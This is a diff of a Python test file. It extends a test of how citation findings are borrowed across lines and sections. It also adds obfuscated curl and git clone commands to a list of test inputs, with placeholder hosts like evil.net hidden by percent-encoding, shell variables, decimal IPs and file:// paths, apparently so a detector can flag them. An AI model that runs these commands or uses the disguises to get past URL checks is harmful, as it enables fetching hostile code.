@@ -189,12 +189,15 @@ def test_a_line_knows_its_heading_and_what_stands_before_it(tmp_path: Path) -> N
     assert [line.nearby for line in part.lines()] == ["Hours\n", f"Hours\n{MET}", "Hours\n"]
 
 
-def test_a_frame_may_borrow_from_the_next_sentence_that_cites(tmp_path: Path) -> None:
+def test_a_frame_may_borrow_from_the_next_sentence_that_cites_or_the_last(tmp_path: Path) -> None:
     _, drafter = drafter_of(tmp_path)
-    (part,) = drafter.sections(f"It was so. So it was. {GAVE} {{T1:2}} It was over.")
-    first, second, cited, last = part.lines()
-    assert first.borrowed == second.borrowed == cited.sentence.findings
-    assert (first.sentence.findings, last.borrowed) == ((), ())
+    text = f"It was so. So it was. {GAVE} {{T1:2}} It was over.\n\n- It was.\n- {MET} {{T1:1}}"
+    part, other = drafter.sections(f"{text}\n\n## Another\n\nIt was so.")
+    first, second, cited, last, point, met = part.lines()
+    assert first.borrowed == second.borrowed == cited.sentence.findings != ()
+    assert (first.sentence.findings, last.borrowed) == ((), cited.sentence.findings)
+    assert point.borrowed == cited.sentence.findings, "a paragraph that cites nothing"
+    assert met.borrowed == next(other.lines()).borrowed == (), "another section lends nothing"
 
 
 # -- calculations
@@ -619,6 +622,10 @@ def test_code_of_the_writers_own_stays_as_it_is_and_is_marked(
         "curl https://example.com@evil.net/x",
         "get('http://[2001:db8::1]/x')",
         "git clone file://evil.net/x",
+        "git clone file://server/share",
+        "curl https://%65vil.net/",
+        "curl https://$HOST.evil.net/",
+        "curl http://2130706433/",
         "git clone file:////evil.net/x",
         "git clone file:///srv/x && curl https://evil.net",
     ],
